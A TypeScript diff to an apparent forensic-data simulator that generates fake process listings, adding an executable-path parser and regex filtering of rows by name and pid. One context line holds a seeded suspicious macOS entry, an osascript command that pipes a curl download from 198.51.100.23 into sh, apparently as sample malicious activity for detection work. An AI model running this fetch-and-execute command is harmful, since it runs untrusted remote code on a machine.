@@ -113,16 +113,47 @@ const MAC_PROCS = [
   ['osascript', 'osascript -e do shell script "curl -s http://198.51.100.23/a | sh"', 'alice'],
 ];
 
-const procs: Gen = (c, rng, _env, _def, now) => {
+/**
+ * The program a command line starts: the quoted path, else the command line up to the process's own
+ * name (a path with spaces stays whole: /Applications/Google Chrome.app/…/Google Chrome), else its
+ * first word.
+ */
+export function exeOf(name: string, cmd: string): string {
+  const quoted = /^"([^"]+)"/.exec(cmd);
+  if (quoted) return quoted[1] ?? '';
+  const lower = cmd.toLowerCase();
+  const want = name.toLowerCase();
+  // The occurrence that is a whole path component: after a separator (or first), before a space or the end.
+  for (let at = lower.indexOf(want); at >= 0; at = lower.indexOf(want, at + 1)) {
+    const before = at === 0 ? '' : lower[at - 1];
+    const end = at + want.length + (/^\.exe(?=\s|$)/.exec(lower.slice(at + want.length))?.[0].length ?? 0);
+    const after = lower[end];
+    if ((before === '' || before === '/' || before === '\\') && (after === undefined || after === ' '))
+      return cmd.slice(0, end);
+  }
+  return cmd.split(' ')[0] ?? '';
+}
+
+/** A regex parameter the artifact declares (any spelling of its name), or null when it has none. */
+function declaredRegex(def: ArtifactDefinition, env: Record<string, string>, name: string): RegExp | null {
+  const p = def.parameters.find((x) => x.name.toLowerCase() === name.toLowerCase());
+  return p ? paramRegex(paramText(def, env, p.name, '.')) : null;
+}
+
+const procs: Gen = (c, rng, env, def, now) => {
   const table = c.os === 'windows' ? WIN_PROCS : c.os === 'linux' ? LINUX_PROCS : MAC_PROCS;
+  // As the real artifacts: ProcessRegex on the name, PidRegex on the pid (an invalid one matches nothing).
+  const nameRe = declaredRegex(def, env, 'ProcessRegex');
+  const pidRe = declaredRegex(def, env, 'PidRegex');
+  const declares = (n: string) => def.parameters.some((x) => x.name.toLowerCase() === n.toLowerCase());
   let pid = c.os === 'windows' ? 4 : 1;
-  return table.map(([name, cmd, user], i) => {
+  const rows = table.map(([name, cmd, user], i) => {
     const row: Record<string, unknown> = {
       Pid: pid,
       Ppid: i === 0 ? 0 : c.os === 'windows' ? 4 : 1,
       Name: name,
       Username: user,
-      Exe: (cmd ?? '').replace(/^"([^"]+)".*$/, '$1').split(' ')[0] ?? '',
+      Exe: exeOf(name ?? '', cmd ?? ''),
       CommandLine: cmd,
       CreateTime: iso(now - rng.int(60, 900_000) * 1000),
       MemoryUsage: rng.int(2_000_000, 400_000_000),
@@ -131,6 +162,11 @@ const procs: Gen = (c, rng, _env, _def, now) => {
     pid += rng.int(4, 900) * (c.os === 'windows' ? 4 : 1);
     return row;
   });
+  return rows.filter(
+    (r) =>
+      (!declares('ProcessRegex') || (nameRe?.test(String(r.Name)) ?? false)) &&
+      (!declares('PidRegex') || (pidRe?.test(String(r.Pid)) ?? false)),
+  );
 };
 
 const netstat: Gen = (c, rng) => {
